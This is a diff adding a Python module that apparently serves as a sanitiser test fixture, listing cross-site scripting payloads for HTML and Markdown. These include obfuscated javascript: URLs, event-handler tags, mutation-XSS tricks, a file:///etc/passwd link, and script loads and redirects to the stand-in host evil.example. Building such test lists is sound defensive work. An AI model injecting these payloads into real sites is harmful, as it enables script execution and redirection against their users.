@@ -1,0 +1,57 @@
+"""Texts that have run scripts somewhere, in one form or another."""
+
+_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle")
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "details open",
+    "input autofocus",
+    "video",
+    "iframe",
+    "math",
+    "style",
+    "a href=x",
+)
+_ADDRESSES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    " javascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "//evil.example",
+    'http://a.b/"onmouseover=alert(1)//',
+    "http://a.b/ 'onclick='alert(1)",
+)
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<style>@import '//evil.example'</style>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=x><embed src=x>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)</script>",
+    "<script\x00>alert(1)</script>",
+    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
+    *(f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS),
+    *(f"[x]({address})" for address in _ADDRESSES),
+    *(f"![x]({address})" for address in _ADDRESSES),
+    *(f"<{address}>" for address in _ADDRESSES),
+    *(f"[x][1]\n\n[1]: {address}" for address in _ADDRESSES),
+    *(f'[x]({address} "title onclick=alert(1)")' for address in _ADDRESSES),
+]
